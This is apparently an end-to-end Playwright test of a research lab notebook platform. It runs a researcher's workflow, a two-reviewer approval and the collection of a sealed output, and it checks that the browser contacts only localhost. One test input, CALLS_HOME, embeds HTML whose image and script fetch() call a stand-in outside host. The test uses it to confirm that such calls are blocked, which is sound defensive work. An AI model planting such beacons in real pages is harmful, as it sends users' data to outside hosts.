"""A researcher's day in a real browser: log in, practise, write a feature, get rows, train, compare, get a table, submit, receive.

Whatever a page shows, the browser sends requests to the lab alone.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Browser

from credit.keys import KeyRing
from credit.seal import Kind
from credit.shelf import Shelf
from infra import lab_services as on_this_machine
from tests.lab.workspace.browser_page import BrowserPage, run, wait_until_idle
from tests.lab.workspace.conftest import DAY, Lab

pytestmark = pytest.mark.servers
LOOK = "import lab\nlab.catalogue('penalty')"
FEATURE = """%%features fresh
SELECT subject, count(*) AS fresh_penalties FROM administrative_penalty
WHERE decided_on >= as_of - INTERVAL 6 MONTH GROUP BY subject"""
WRONG = "lab.sql('select count(*) from administrative_penalti')"
TRAIN = """fewer = {"trials": 1}
plain = lab.train(lab.order("enterprise", training=fewer))
mine = lab.train(lab.order("enterprise", sql=fresh, features=[lab.feature("fresh_penalties", "近6个月处罚次数", +1)], training=fewer))
print("trained", plain.state, mine.state)"""
COMPARE = "lab.compare(plain, mine)"
ROWS = """rows = lab.rows(fresh, as_of="2026-10-01")
print("rows", len(rows), rows.pandas().columns.tolist())"""
OVER_RECORDS = """districts = lab.table("SELECT district, count(*) FROM registration GROUP BY ALL", as_of="2026-10-01")
left = districts.carry_out()
print("districts", len(districts), left.state, left.id == lab.parcels()[0].id)"""
TABLE = """import pandas as pd
some = int((rows.pandas()["fresh_penalties"] > 0).sum())
counts = pd.DataFrame({"kind": ["enterprise, none", "enterprise, some"], "firms": [len(rows) - some, some]})
counts["firms"] = (counts["firms"] // 5) * 5
counts.to_csv("kinds.csv", index=False)
asked = lab.carry_out("kinds.csv", title="Firms with penalties", purpose="A slide for the yearly report",
    description="Firms with and without penalties in six months", sources=[rows], subjects=int(counts["firms"].sum()), submit=True)
print("asked for", asked.id)"""
CALLS_HOME = """from IPython.display import HTML
HTML('<img src="https://elsewhere.example/?rows=1"><script>fetch("https://elsewhere.example/2")</script><p>shown</p>')"""


def approve(browser: Browser, lab: Lab, who: str, parcel: str, pictures: Path) -> None:
    """A reviewer opens the parcel from the queue, reads the file to its end, and approves with a reason, twice."""
    browser_page = BrowserPage(browser, lab.url, lab.home, who, "/services/console/")
    page = browser_page.page
    page.wait_for_url("**/services/console/**")
    page.goto(f"{lab.url}/services/console/parcels/{parcel}")
    assert "kinds.csv" in page.inner_text("main")
    assert "enterprise" in page.inner_text("main"), "the file is shown beside its findings"
    for width in (1280, 390):
        page.set_viewport_size({"width": width, "height": 900})
        page.screenshot(path=str(pictures / f"parcel-{who}-{width}.png"))
    page.click("button[data-key=end]")
    page.wait_for_selector("textarea[name=reason]")
    page.fill("textarea[name=reason]", "Two kinds, thousands of subjects each")
    page.click("button[value=approve]")
    page.wait_for_url("**/vote")
    page.click("button[value=approve]")
    page.wait_for_url("**said=voted")
    assert browser_page.hosts_requested() == {"localhost"}
    page.context.close()


def test_a_researchers_day(lab: Lab, browser: Browser, mlflow_server: str, tmp_path: Path) -> None:
    with on_this_machine.zones(lab.home, mlflow_server, DAY):
        browser_page = BrowserPage(browser, lab.url, lab.home, "dana", "/hub/login")
        page = browser_page.page
        page.locator(".jp-Launcher").wait_for(timeout=120_000)
        page.locator(".jp-LauncherCard[data-category=Notebook]").first.click()
        page.locator(".jp-Notebook .cm-content").first.wait_for(timeout=120_000)
        wait_until_idle(page)

        catalogue = run(page, LOOK)
        assert "行政处罚" in catalogue
        assert "invented 虚构" in catalogue
        assert "Did you mean administrative_penalty" in run(page, WRONG)
        assert "fresh_penalties" in run(page, FEATURE)
        assert "'fresh_penalties'" in run(page, ROWS)
        assert "trained done done" in run(page, TRAIN, seconds=600)
        compared = run(page, COMPARE)
        assert "AUC" in compared
        assert page.locator(".jp-OutputArea img").count() >= 1, "the comparison is drawn"
        districts = run(page, OVER_RECORDS)
        assert "received True" in districts
        assert int(districts.split("districts")[-1].split()[0]) > 5, "most districts have enough firms"
        assert "shown" in run(page, CALLS_HOME)
        output = run(page, TABLE)
        assert "asked for" in output
        parcel = output.split("asked for")[1].split()[0]
        page.screenshot(path=str(tmp_path / "notebook.png"))

        for reviewer in ("rita", "remy"):
            approve(browser, lab, reviewer, parcel, tmp_path)
        assert "approved" in run(page, "lab.parcels()")
        received = run(page, "got = lab.parcels()[0].collect()\nprint(got.state, got.sealed)")
        assert "received" in received
        assert browser_page.hosts_requested(blocked=True) == set(), "the address did not reach the browser"
        assert browser_page.hosts_requested() == {"localhost"}, "nothing was asked of anybody else"
        page.context.close()
    sealed = received.split("received")[1].split()[0]
    opened = Shelf(lab.home.root / "outbox", KeyRing.load(lab.home.ring_folder)).open(sealed)
    assert opened.seal.kind is Kind.PARCEL
    assert (opened.path / "kinds.csv").read_text().startswith('"kind","firms"')
    verbs = [entry.verb for entry in lab.home.ledger("research").entries() if entry.by.name in ("dana", "rita", "remy")]
    for verb in ("cell.executed", "cell.read", "order.placed", "training.asked", "table.asked", "table.left"):
        assert verb in verbs
